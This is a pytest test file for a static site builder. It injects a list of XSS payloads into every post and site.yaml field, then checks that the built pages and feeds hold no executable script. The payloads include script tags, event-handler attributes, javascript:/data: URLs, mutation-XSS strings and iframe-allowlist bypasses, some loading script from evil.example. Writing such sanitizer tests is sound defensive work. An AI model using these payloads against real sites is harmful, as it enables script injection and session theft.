"""A corpus of XSS payloads in every place a post or site.yaml can put text: none runs in the built site.

Each payload goes into a post's title, summary, tags, declared speakers and their labels, model name,
fence language and `norun reason=`, link, image and reference URLs, an autolink, raw HTML (block and
inline: the author's own, which the allowlist of sanitize.py keeps in part), plain text, a footnote, a table
cell — and into site.yaml's title, description and author. The
built HTML is read with an HTML parser (bs4) and must hold no script but the theme's, no ``on*=``
attribute, no ``javascript:``/``vbscript:``/``data:`` URL other than an image, and none of the elements
that run or load code; feed.xml and sitemap.xml must parse as XML.
"""

from __future__ import annotations

import datetime as dt
import json
import shlex
import xml.etree.ElementTree as ET
from pathlib import Path

import feedparser
import pytest
from bs4 import BeautifulSoup

from site_builder.build import build_site

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)//-->",
    "]]><script>alert(1)</script><![CDATA[",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=import href=//evil.example/x>",
    "{{ 7*7 }}{% raw %}",
    "\u2028<script>alert(1)</script>\u2029",
    "<scr<script>ipt>alert(1)</script>",
    "x\x01<script>\x0balert(1)</script>",
    # the author's own raw HTML is kept through an allowlist (sanitize.py): these are its tags, misused
    "<details><summary onclick=alert(1)>s</summary><script>alert(1)</script></details>",
    "<kbd style=\"background:url(javascript:alert(1))\">k</kbd><sub onmouseover=alert(1)>1</sub>",
    "<img src=\"javascript:alert(1)\"><img src=\"data:text/html,<script>alert(1)</script>\">",
    "<a href=\"&#106;avascript:alert(1)\" onclick=alert(1)>a</a><a href=\"vbscript:x\">b</a>",
    "<iframe src=\"https://evil.example/embed\"></iframe><iframe src=\"//evil.example/x\"></iframe>",
    "<iframe src=\"https://www.youtube.com.evil.example/embed/x\"></iframe>",
    "<iframe src=\"https://x@www.youtube.com@evil.example/\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\">",
    "<iframe src=\"javascript://www.youtube.com/%0aalert(1)\"></iframe>",
    "<table background=\"javascript:alert(1)\"><tr><td onclick=alert(1)>c</td></tr></table>",
    "<figure><img src=x onerror=alert(1)><figcaption><svg onload=alert(1)></figcaption></figure>",
    "<mark><textarea><script>alert(1)</script></mark><abbr title=\"\" onfocus=alert(1) autofocus>a</abbr>",
    "<sup>x</sup><details open ontoggle=alert(1)><summary>s</summary><style>*{x:url(javascript:a)}</style>",
]
BENIGN_HTML = ("<details open><summary>s</summary><kbd>k</kbd><sub>1</sub><sup>2</sup><mark>m</mark>"
               "<abbr title=\"t\">a</abbr><ins>i</ins><del>d</del><figure><img src=\"x.png\" alt=\"x\">"
               "<figcaption>c</figcaption></figure><table><tr><td>c</td></tr></table><a href=\"/x\">x</a>"
               "<p>p</p><em>e</em><strong>s</strong><code>c</code><br></details>")
"""What the allowlist keeps, written by the benign site's author: every element of it is one they may make."""

PLACES = ["title", "summary", "tag", "declared speaker", "speaker label", "model", "fence language",
          "fence reason", "link URL", "image URL", "reference URL", "autolink", "raw HTML block", "inline HTML",
          "plain text", "footnote", "table cell", "site title", "site description", "site author"]
RISKY_ELEMENTS = {"iframe", "object", "embed", "base", "form", "frame", "frameset", "applet", "svg", "math",
                  "style", "template", "textarea", "input", "video", "audio", "noscript", "xmp", "plaintext"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "srcdoc", "background", "cite",
                  "xlink:href", "content", "srcset"}
THEME_RISKY = {"form", "input", "noscript"}
"""Risky elements the theme itself makes, on the search page only (a search box, and a note without JS)."""
TEXT_METAS = {"description", "og:description", "twitter:description", "og:title", "twitter:title", "og:site_name"}
"""Meta tags whose ``content`` is text shown by a reader or a link preview, never a URL a browser follows."""


def is_theme_risky(page: str, tag) -> bool:
    return page == "search/index.html" and tag.name in THEME_RISKY and tag.name != "form" or (
        page == "search/index.html" and tag.name == "form" and tag.get("action") in (None, "", "./", "."))


def one_line(text: str) -> str:
    return " ".join(text.split())


def post_for(number: int, payload: str) -> str:
    """A post carrying ``payload`` in every place a post has."""
    text = json.dumps(payload)
    url = one_line(payload).replace(" ", "%20").replace(")", "%29")
    word = "".join(ch for ch in payload if not ch.isspace() and ch not in "\"'\\")  # shlex reads the info

    front = (f"title: {text}\nsummary: {text}\ntags: [{text}, plain]\n"
             f"speakers:\n  {text}: {{role: user}}\n  \"Eve'O\": user\n  ChatGPT: {{role: assistant, model: {text}}}\n")
    body = f"""
Intro {one_line(payload)} [link]({url}) ![image]({url}) [reference][r] <{url}> footnote[^n]

{one_line(payload)} — *emphasis*, **strong**, ~~struck~~, `code`

| {one_line(payload).replace("|", "")} | b |
|---|---|
| c | d |

[r]: {url}
[^n]: {one_line(payload)}

Eve'O: {one_line(payload)} in a turn of a label with a quote

ChatGPT: an answer with <span>{one_line(payload)}</span> inside

~~~{word or "x"}
{payload}
~~~

~~~python norun reason={shlex.quote(one_line(payload))}
print({text})
~~~
"""
    return f"---\n{front}---\n{body}"


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(the site built from the corpus, a benign site built from the same theme)."""
    root = tmp_path_factory.mktemp("xss")
    hostile, benign = root / "hostile", root / "benign"
    for content, payloads in ((hostile, PAYLOADS), (benign, ["harmless", BENIGN_HTML])):
        (content / "posts").mkdir(parents=True)
        for number, payload in enumerate(payloads):
            date = dt.date(2024, 1, 1) + dt.timedelta(days=number)
            (content / "posts" / f"{date}-post-{number}.md").write_text(post_for(number, payload), encoding="utf-8")
        first = json.dumps(payloads[0])
        (content / "site.yaml").write_text(f"title: {first}\ndescription: {first}\nauthor: {first}\n"
                                           "base_url: https://example.org/blog/\nfeed_content: full\n",
                                           encoding="utf-8")
        build_site(content, root / f"{content.name}-site")
    return root / "hostile-site", root / "benign-site"


def pages(site: Path) -> list[tuple[Path, BeautifulSoup]]:
    return [(page, BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser"))
            for page in sorted(site.rglob("*.html"))]


def scripts(doc: BeautifulSoup) -> set[tuple[str, str]]:
    """Each script as (file name it loads, its inline code): depth changes ``../`` but not these."""
    return {((s.get("src") or "").rsplit("/", 1)[-1], (s.string or "").strip()) for s in doc.find_all("script")}


def is_script_url(value: str) -> bool:
    squeezed = "".join(ch for ch in value if ch > " ").lower()  # browsers drop tabs, newlines and controls
    if squeezed.startswith("data:image/"):
        return False
    return squeezed.startswith(("javascript:", "vbscript:", "data:", "livescript:"))


def test_the_corpus_reaches_every_page_kind(sites: tuple[Path, Path]) -> None:
    hostile, _ = sites
    assert len(list((hostile / "posts").iterdir())) == len(PAYLOADS)
    page = (hostile / "posts" / "post-0" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page, "the payload is shown, as text"
    tags = {payload.strip() for payload in PAYLOADS} | {"plain"}  # front matter values lose outer spaces
    assert len([folder for folder in (hostile / "tags").iterdir() if folder.is_dir()]) == len(tags)  # and index.html


def test_no_script_but_the_themes(sites: tuple[Path, Path]) -> None:
    hostile, benign = sites
    allowed = set().union(*(scripts(doc) for _, doc in pages(benign)))
    # the theme's early theme switch, assets/site.js, and the search page's assets/search.js
    assert {src for src, _ in allowed} == {"", "site.js", "search.js"} and len(allowed) == 3, allowed
    found = {page.relative_to(hostile).as_posix(): scripts(doc) - allowed for page, doc in pages(hostile)}
    assert {page: extra for page, extra in found.items() if extra} == {}


def test_no_event_handler_attribute(sites: tuple[Path, Path]) -> None:
    hostile, _ = sites
    handlers = [(page.name, tag.name, name) for page, doc in pages(hostile) for tag in doc.find_all(True)
                for name in tag.attrs if name.lower().startswith("on")]
    assert handlers == []


def test_no_element_the_theme_and_markdown_do_not_make(sites: tuple[Path, Path]) -> None:
    hostile, benign = sites
    names = {site: {tag.name for _, doc in pages(site) for tag in doc.find_all(True)} for site in sites}
    assert names[hostile] - names[benign] == set()
    # the theme's search page has a form, an input and a noscript; no other page may have a risky element
    assert names[hostile] & RISKY_ELEMENTS == THEME_RISKY


def test_no_script_url_and_no_element_that_runs_or_loads_code(sites: tuple[Path, Path]) -> None:
    hostile, _ = sites
    urls, elements = [], []
    for page, doc in pages(hostile):
        for tag in doc.find_all(True):
            where = page.relative_to(hostile).as_posix()
            if (tag.name in RISKY_ELEMENTS and not is_theme_risky(where, tag)) or (
                    tag.name == "meta" and tag.get("http-equiv")):
                elements.append((where, str(tag)[:80]))
            if tag.name == "link" and tag.get("rel") not in (["stylesheet"], ["alternate"], ["canonical"], ["prev"],
                                                              ["next"], ["icon"]):
                elements.append((page.relative_to(hostile).as_posix(), str(tag)[:80]))
            for name, value in tag.attrs.items():
                values = value if isinstance(value, list) else [value]
                text_meta = tag.name == "meta" and name == "content" and (
                    tag.get("name") in TEXT_METAS or tag.get("property") in TEXT_METAS)
                if name.lower() in URL_ATTRIBUTES and not text_meta and any(is_script_url(v) for v in values):
                    urls.append((page.relative_to(hostile).as_posix(), name, str(value)[:80]))
    assert urls == [] and elements == []


def test_feed_and_sitemap_parse_as_xml(sites: tuple[Path, Path]) -> None:
    hostile, _ = sites
    sitemap = ET.parse(hostile / "sitemap.xml").getroot()
    feed = ET.parse(hostile / "feed.xml").getroot()
    atom = "{http://www.w3.org/2005/Atom}"
    assert len(feed.findall(f"{atom}entry")) == 20 and len(sitemap) > len(PAYLOADS)
    assert all(not is_script_url(link.get("href", "")) for link in feed.iter(f"{atom}link"))
    assert all(not e.tag.startswith("{http://www.w3.org/1999/xhtml}") for e in feed.iter()), "no markup"
    parsed = feedparser.parse((hostile / "feed.xml").read_bytes())
    assert not parsed.bozo, parsed.get("bozo_exception")
    titles = {entry.title for entry in parsed.entries}
    assert "<script>alert(1)</script>" in titles, "the payload is a title, as text"


def test_the_full_content_feed_holds_no_script(sites: tuple[Path, Path]) -> None:
    """``feed_content: full``: each entry's HTML (what a feed reader shows) has no script, no handler, no script
    URL, and no element the benign site's feed does not have."""
    atom = "{http://www.w3.org/2005/Atom}"

    def contents(site: Path) -> list[BeautifulSoup]:
        entries = ET.parse(site / "feed.xml").getroot().iter(f"{atom}entry")
        return [BeautifulSoup(entry.findtext(f"{atom}content"), "html.parser") for entry in entries]

    hostile, benign = sites
    found = contents(hostile)
    assert len(found) == 20 and all(doc.find("h3") for doc in found), "each entry holds its post"
    names = {site: {tag.name for doc in contents(site) for tag in doc.find_all(True)} for site in sites}
    assert names[hostile] - names[benign] == set() and not names[hostile] & (RISKY_ELEMENTS | {"script", "button"})
    for doc in found:
        for tag in doc.find_all(True):
            assert not [name for name in tag.attrs if name.lower().startswith("on")], str(tag)[:80]
            for name, value in tag.attrs.items():
                values = value if isinstance(value, list) else [value]
                if name.lower() in URL_ATTRIBUTES:
                    assert not any(is_script_url(v) for v in values), str(tag)[:80]
                    assert all(v.startswith(("https://", "http://", "mailto:")) for v in values), str(tag)[:80]
